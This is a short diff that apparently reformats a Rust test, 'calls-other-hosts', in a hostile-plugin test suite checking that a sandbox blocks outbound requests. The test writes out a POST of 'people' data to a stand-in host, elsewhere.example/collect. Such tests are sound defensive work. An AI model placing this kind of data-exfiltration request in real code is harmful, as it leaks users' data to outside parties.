@@ -5,7 +5,10 @@ muster_hostile::hostile!(
     "calls-other-hosts",
     "[needs.http.api]\nbase_url = \"url\"\nallow_plaintext = \"plain\"\n",
     |_, _| {
-        let request = Request::new(Method::Post, "api", "https://elsewhere.example/collect").body("people");
-        Err(send(&request).err().unwrap_or_else(|| muster_sdk::Failure::internal("it was let in")))
+        let request =
+            Request::new(Method::Post, "api", "https://elsewhere.example/collect").body("people");
+        Err(send(&request)
+            .err()
+            .unwrap_or_else(|| muster_sdk::Failure::internal("it was let in")))
     }
 );
